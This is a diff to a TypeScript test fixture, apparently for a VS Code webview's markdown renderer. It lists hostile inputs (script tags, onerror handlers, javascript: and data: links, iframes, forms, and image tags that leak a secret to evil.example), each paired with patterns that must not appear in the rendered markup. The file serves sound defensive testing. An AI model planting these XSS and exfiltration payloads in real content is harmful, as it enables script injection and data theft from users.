@@ -381,21 +381,35 @@ Outside.
 `,
 };
 
-/** The hostile inputs of test/unit/webview/markdown.test.ts, and what must never appear. */
-export const hostile: Array<[string, string, RegExp]> = [
-  ['a script tag', 'hi <script>alert(1)</script>', /<script/i],
-  ['an event handler', '<b onmouseover="alert(1)">x</b>', /onmouseover/i],
-  ['a javascript: link', '[click](javascript:alert(1))', /javascript:/i],
-  ['a data: link', '[click](data:text/html,<script>alert(1)</script>)', /href="data:|<script/i],
+/**
+ * Hostile inputs, what must never appear in the rendered markup (tags and attributes, see
+ * `markupOf`), and the text that must stay visible: raw HTML other than the allowed inline tags is
+ * shown as literal text (webview/render/html-policy), so nothing runs and nothing is lost.
+ */
+export const hostile: Array<[name: string, text: string, forbidden: RegExp, visible?: string]> = [
+  ['a script tag', 'hi <script>alert(1)</script>', /<script/i, 'hi <script>alert(1)</script>'],
+  ['an event handler', '<b onmouseover="alert(1)">x</b>', /onmouseover/i, 'x'],
+  ['a javascript: link', '[click](javascript:alert(1))', /javascript:/i, 'click'],
+  ['a data: link', '[click](data:text/html,<script>alert(1)</script>)', /href="data:|<script/i, 'click'],
   ['a markdown image to a remote host', '![x](https://evil.example/leak?secret=1)', /<img|src=/i],
-  ['a raw img tag', '<img src=x onerror=alert(1)>', /<img|onerror/i],
-  ['an iframe', '<iframe src="https://evil.example"></iframe>', /<iframe/i],
-  ['an svg with script', '<svg><script>alert(1)</script></svg>', /<svg|<script/i],
-  ['a style tag', '<style>body{background:url(https://evil.example)}</style>', /<style|evil/i],
-  ['a form', '<form action="https://evil.example"><input name=a></form>', /<form|<input/i],
-  ['a class that dresses up as the app', '<span class="message-actions codicon">x</span>', /class=/i],
+  ['a raw img tag', '<img src=x onerror=alert(1)>', /<img|onerror/i, '<img src=x onerror=alert(1)>'],
+  ['an iframe', '<iframe src="https://evil.example"></iframe>', /<iframe/i, '<iframe src="https://evil.example"></iframe>'],
+  ['an svg with script', '<svg><script>alert(1)</script></svg>', /<svg|<script/i, '<svg><script>alert(1)</script></svg>'],
+  ['a style tag', '<style>body{background:url(https://evil.example)}</style>', /<style|url\(/i, '<style>body{background:url(https://evil.example)}</style>'],
+  ['a form', '<form action="https://evil.example"><input name=a></form>', /<form|<input/i, '<form action="https://evil.example"><input name=a></form>'],
+  ['a class that dresses up as the app', '<span class="message-actions codicon">x</span>', /class=/i, '<span class="message-actions codicon">x</span>'],
   ['a javascript: link in a list', '- [x](javascript:alert(1))\n- y', /javascript:/i],
-  ['a vscode: command link', '[run](command:workbench.action.terminal.new)', /command:/i],
+  ['a vscode: command link', '[run](command:workbench.action.terminal.new)', /command:/i, 'run'],
+  ['an <image> tag (the parser makes it an img)', '<image src="https://evil.example/x?leak=1" onerror=alert(1)>', /<img|onerror|src=/i, '<image src="https://evil.example/x?leak=1" onerror=alert(1)>'],
+  ['an uppercase IMG tag', '<IMG SRC="https://evil.example/y">', /<img|src=/i, '<IMG SRC="https://evil.example/y">'],
 ];
-hostile.push(['an <image> tag (the parser makes it an img)', '<image src="https://evil.example/x?leak=1" onerror=alert(1)>', /<img|onerror|src=/i]);
-hostile.push(['an uppercase IMG tag', '<IMG SRC="https://evil.example/y">', /<img|src=/i]);
+
+/**
+ * The rendered markup without its text: each element as `<tag name="value" …>`. Literal text that
+ * looks like a tag (`&lt;img onerror…`) is not markup and does not appear here.
+ */
+export function markupOf(root: Element): string {
+  return Array.from(root.querySelectorAll('*'))
+    .map((element) => `<${element.tagName.toLowerCase()}${Array.from(element.attributes, (a) => ` ${a.name}="${a.value}"`).join('')}>`)
+    .join('');
+}
